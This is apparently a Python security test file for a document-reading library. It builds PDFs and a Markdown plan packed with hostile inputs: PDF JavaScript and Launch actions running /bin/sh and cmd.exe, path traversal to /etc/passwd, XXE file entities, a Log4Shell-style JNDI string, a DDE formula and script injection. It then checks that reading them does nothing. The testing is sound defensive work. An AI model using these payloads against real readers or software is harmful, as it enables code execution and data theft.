"""Nothing in a document is run, opened, written or fetched."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

from sendplan.tests.hostile.horrors import grid, pdf, text
from sendplan.tests.hostile.objects import packed, stream

SECRET = "Words of another file"

# Reports what reading a file asks of the system, in an audit hook set before all else.
WATCHED = """
import json, os, sys
asked = []
def hook(event, arguments):
    if event == "open":
        path, mode, flags = arguments
        if isinstance(path, int):
            return  # a file that is open already
        writes = isinstance(flags, int) and flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT)
        asked.append([event + (" to write" if writes else ""), str(path)])
    elif event.split(".")[0] in ("socket", "subprocess", "ftplib", "urllib", "http", "webbrowser",
                                 "smtplib", "poplib", "imaplib", "telnetlib"):
        asked.append([event, str(arguments)])
    elif event in ("os.system", "os.exec", "os.fork", "os.forkpty", "os.posix_spawn", "os.spawn",
                   "os.startfile", "os.rename", "os.remove", "os.symlink", "os.link", "os.mkdir"):
        asked.append([event, str(arguments[0])])
sys.addaudithook(hook)
import sendplan
plan = sendplan.read(sys.argv[2])
with open(sys.argv[1], "w") as file:
    json.dump([asked[:-1], plan.model_dump_json()], file)
"""


def armed(folder: Path) -> bytes:
    """A plan with all that may make a reader act, or name a file or an address."""
    secret = str(folder / "secret.txt").encode()
    action = b"<</S/JavaScript/JS(app.launchURL\\('http://127.0.0.1:9/'\\);)>>"
    more = {
        10: action,
        11: b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>",
        12: b"<</S/URI/URI(http://127.0.0.1:9/fetched)>>",
        13: b"<</S/GoToR/F(../../../etc/passwd)/D[0/Fit]>>",
        14: b"<</S/SubmitForm/F(http://127.0.0.1:9/sent)>>",
        15: b"<</Type/Annot/Subtype/Link/Rect[0 0 842 595]/A 12 0 R/AA<</E 11 0 R/O 10 0 R>>>>",
        16: b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(b)/Rect[0 0 9 9]/AA<</K 10 0 R>>>>",
        17: b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 20 0 R>>",
        18: b"<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]/Movie<</F(http://127.0.0.1:9/film)>>>>",
        20: b"<</Type/Filespec/F(../../../dropped.exe)/UF(../dropped.exe)/EF<</F 21 0 R>>>>",
        21: packed(b"MZ evil", b"/Type/EmbeddedFile"),
        # A stream whose bytes stand in another file, and an image and a font that do.
        22: stream(b"/F(%b)" % secret, b""),
        23: stream(b"/Type/XObject/Subtype/Image/Width 9/Height 9/F(%b)" % secret, b""),
        24: b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(%b)/Page 0>>>>" % secret,
        3: b"<</Type/Font/Subtype/TrueType/BaseFont/Helvetica/FontDescriptor 25 0 R>>",
        25: b"<</Type/FontDescriptor/FontName/Helvetica/Flags 32/FontFile2 22 0 R>>",
        26: b"<</XFA 27 0 R/Fields[16 0 R]/NeedAppearances true>>",
        27: packed(b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file://%b'>]><a>&x;</a>" % secret),
    }
    return pdf(
        grid() + b"/X23 Do /X24 Do " + text(50, 50, "See http://127.0.0.1:9/in-text"),
        page=b"/Annots[15 0 R 16 0 R 17 0 R 18 0 R]/AA<</O 10 0 R/C 11 0 R>>",
        resources=b"/XObject<</X23 23 0 R/X24 24 0 R>>",
        catalogue=b"/OpenAction 10 0 R/AA<</WC 11 0 R>>/AcroForm 26 0 R"
        b"/Names<</JavaScript<</Names[(a)10 0 R]>>/EmbeddedFiles<</Names[(x)20 0 R]>>>>",
        more=more,
    )


def check_harmless(folder: Path, name: str, data: bytes) -> None:
    """Check that one file was read, and that nothing else was done."""
    secret, file, report = folder / "secret.txt", folder / name, folder / "asked.json"
    secret.write_text(SECRET)
    file.write_bytes(data)
    command = [sys.executable, "-c", WATCHED, str(report), str(file)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    assert {path for path in folder.rglob("*") if path.is_file()} == {secret, file, report}
    asked, said = json.loads(report.read_text())
    assert "Listen to families" in said
    assert SECRET not in said
    opened = {path for event, path in asked if event == "open" and str(folder) in path}
    assert opened <= {str(file)}
    acts = [(event, what) for event, what in asked if event != "open"]
    assert [(event, what) for event, what in acts if "__pycache__" not in what] == []


def test_a_pdf_does_nothing(tmp_path: Path) -> None:
    check_harmless(tmp_path, "plan.pdf", armed(tmp_path))


def test_a_text_conversion_does_nothing(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    words = (
        f"# Plan\n\n<script src='http://127.0.0.1:9/x.js'>fetch('{secret}')</script>\n"
        f"<img src='http://127.0.0.1:9/x.png'> ![x]({secret}) <iframe src='file://{secret}'>\n"
        f"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file://{secret}'>]>&x;\n\n"
        "{{ 7*7 }} ${jndi:ldap://127.0.0.1:9/a} =cmd|' /c calc'!A1\n\n"
        "Ref\tAction\tLead\tBy when\n1.1\tListen to families\tBoard\tMay 2025\n"
        "1.2\tTrain all staff &x;\tSchool team\tJuly 2025\n"
    )
    check_harmless(tmp_path, "plan.md", words.encode())
